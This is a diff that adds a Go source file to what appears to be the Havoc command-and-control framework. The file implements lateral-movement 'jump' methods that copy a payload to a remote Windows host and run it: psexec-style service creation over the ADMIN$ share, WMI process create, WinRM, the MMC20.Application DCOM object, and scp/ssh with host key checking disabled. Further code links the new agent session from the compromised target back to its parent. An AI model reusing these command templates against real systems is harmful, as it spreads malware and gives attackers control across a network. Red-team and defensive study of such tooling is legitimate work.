@@ -0,0 +1,216 @@
+package server
+
+import (
+	"fmt"
+	"sort"
+	"strings"
+	"time"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/logger"
+)
+
+// time the target has to connect back before the jump counts as failed
+const JUMP_TIMEOUT = 10 * time.Minute
+
+// methods the agents can jump to a target with
+var jumpMethods = map[string]*JumpMethod{
+	"psexec": {
+		Name:        "psexec",
+		Description: "creates and starts a service running a service binary on the target",
+		Format:      "Windows Service Exe",
+		Credential:  true,
+		Upload:      jumpAdminShare,
+		Command: func(Target, Name string, Inputs map[string]string) string {
+			return fmt.Sprintf("sc \\\\%v create %v binPath= \"%v\" start= demand && sc \\\\%v start %v & sc \\\\%v delete %v", Target, Name, jumpLocal(Name), Target, Name, Target, Name)
+		},
+	},
+
+	"wmi": {
+		Name:        "wmi",
+		Description: "starts the payload on the target using WMI process create",
+		Format:      "Windows Exe",
+		Credential:  true,
+		Upload:      jumpAdminShare,
+		Command: func(Target, Name string, Inputs map[string]string) string {
+			return fmt.Sprintf("wmic /node:\"%v\" process call create \"%v\"", Target, jumpLocal(Name))
+		},
+	},
+
+	"winrm": {
+		Name:        "winrm",
+		Description: "starts the payload on the target using a WinRM shell",
+		Format:      "Windows Exe",
+		Credential:  true,
+		Upload:      jumpAdminShare,
+		Command: func(Target, Name string, Inputs map[string]string) string {
+			/* started through wmi on the target so the process outlives the winrm shell */
+			return fmt.Sprintf("winrs -r:%v \"wmic process call create %v\"", Target, jumpLocal(Name))
+		},
+	},
+
+	"dcom": {
+		Name:        "dcom",
+		Description: "starts the payload on the target using the MMC20.Application DCOM object",
+		Format:      "Windows Exe",
+		Credential:  true,
+		Upload:      jumpAdminShare,
+		Command: func(Target, Name string, Inputs map[string]string) string {
+			return fmt.Sprintf("powershell -nop -c \"[Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application','%v')).Document.ActiveView.ExecuteShellCommand('%v',$null,$null,'7')\"", Target, jumpLocal(Name))
+		},
+	},
+
+	"ssh": {
+		Name:        "ssh",
+		Description: "copies the payload to a windows target running OpenSSH and starts it. uses the ssh keys of the agent user",
+		Format:      "Windows Exe",
+		Inputs:      []string{"User"},
+		Upload: func(Target, Name string, Inputs map[string]string) string {
+			return fmt.Sprintf("C:\\Windows\\Temp\\%v.exe", Name)
+		},
+		Command: func(Target, Name string, Inputs map[string]string) string {
+			var (
+				Options = "-o BatchMode=yes -o StrictHostKeyChecking=no"
+				Local   = fmt.Sprintf("C:\\Windows\\Temp\\%v.exe", Name)
+				Remote  = Inputs["User"] + "@" + Target
+			)
+
+			return fmt.Sprintf("scp %v \"%v\" %v:%v.exe && ssh %v %v \"wmic process call create %%USERPROFILE%%\\%v.exe\" & del \"%v\"", Options, Local, Remote, Name, Options, Remote, Name, Local)
+		},
+	},
+}
+
+// methods that got renamed
+var jumpAliases = map[string]string{
+	"scm": "psexec",
+}
+
+// JumpRegister
+// adds a jump method or replaces the method with the same name.
+func JumpRegister(Method *JumpMethod) {
+	jumpMethods[Method.Name] = Method
+}
+
+// JumpMethodGet
+// returns the jump method with the name.
+func JumpMethodGet(Name string) (*JumpMethod, bool) {
+	if Alias, ok := jumpAliases[Name]; ok {
+		Name = Alias
+	}
+
+	Method, ok := jumpMethods[Name]
+
+	return Method, ok
+}
+
+// JumpMethods
+// returns the available jump methods and their inputs.
+func JumpMethods() []map[string]any {
+	var (
+		Names   []string
+		Methods []map[string]any
+	)
+
+	for Name := range jumpMethods {
+		Names = append(Names, Name)
+	}
+
+	sort.Strings(Names)
+
+	for _, Name := range Names {
+		var Method = jumpMethods[Name]
+
+		Methods = append(Methods, map[string]any{
+			"Name":        Method.Name,
+			"Description": Method.Description,
+			"Format":      Method.Format,
+			"Inputs":      Method.Inputs,
+			"Credential":  Method.Credential,
+		})
+	}
+
+	return Methods
+}
+
+func jumpAdminShare(Target, Name string, Inputs map[string]string) string {
+	return fmt.Sprintf("\\\\%v\\ADMIN$\\%v.exe", Target, Name)
+}
+
+func jumpLocal(Name string) string {
+	return fmt.Sprintf("C:\\Windows\\%v.exe", Name)
+}
+
+// jumpWait
+// waits for the session of the jump and marks it as failed if the target
+// didn't connect back in time.
+func (t *Teamserver) jumpWait(Jump *PendingJump) {
+	t.Jumps.Store(Jump.EdgeID, Jump)
+
+	time.AfterFunc(JUMP_TIMEOUT, func() {
+		if _, ok := t.Jumps.LoadAndDelete(Jump.EdgeID); ok {
+			t.lateralFailed(Jump.Parent, Jump.EdgeID, "no session from "+Jump.Target+" after "+JUMP_TIMEOUT.String())
+		}
+	})
+}
+
+// jumpMatches
+// checks if the new session belongs to the target of the jump.
+func jumpMatches(Jump *PendingJump, Agent *agent.Agent) bool {
+	var Target = strings.ToLower(Jump.Target)
+
+	if Agent.Info == nil {
+		return false
+	}
+
+	if Agent.Info.InternalIP == Jump.Target {
+		return true
+	}
+
+	var Hostname = strings.ToLower(Agent.Info.Hostname)
+
+	/* the target might be the fqdn of the host */
+	return len(Hostname) > 0 && (Target == Hostname || strings.HasPrefix(Target, Hostname+"."))
+}
+
+// jumpSession
+// links a new session to the jump it resulted from. called before the
+// session gets saved so it ends up in the workspace of its parent.
+func (t *Teamserver) jumpSession(Agent *agent.Agent) {
+	var Jump *PendingJump
+
+	t.Jumps.Range(func(key, value any) bool {
+		var Pending = value.(*PendingJump)
+
+		if Pending.Parent.NameID != Agent.NameID && jumpMatches(Pending, Agent) {
+			if Jump == nil || Pending.Time.Before(Jump.Time) {
+				Jump = Pending
+			}
+		}
+
+		return true
+	})
+
+	if Jump == nil {
+		return
+	}
+
+	if _, ok := t.Jumps.LoadAndDelete(Jump.EdgeID); !ok {
+		return
+	}
+
+	/* the session belongs to the workspace of the agent it came from */
+	Agent.Info.Workspace = Jump.Parent.Info.Workspace
+
+	if err := t.DB.LateralSession(Jump.EdgeID, Agent.NameID); err != nil {
+		logger.Error("Failed to update lateral movement: " + err.Error())
+	}
+
+	logger.Info(fmt.Sprintf("Lateral movement %v: new session %v from %v", Jump.EdgeID, Agent.NameID, Jump.Target))
+
+	t.AgentConsole(Jump.Parent.NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+		"Type":    "Good",
+		"Message": fmt.Sprintf("Jump to %v succeeded: new session %v", Jump.Target, Agent.NameID),
+	})
+
+	go t.lateralBroadcast()
+}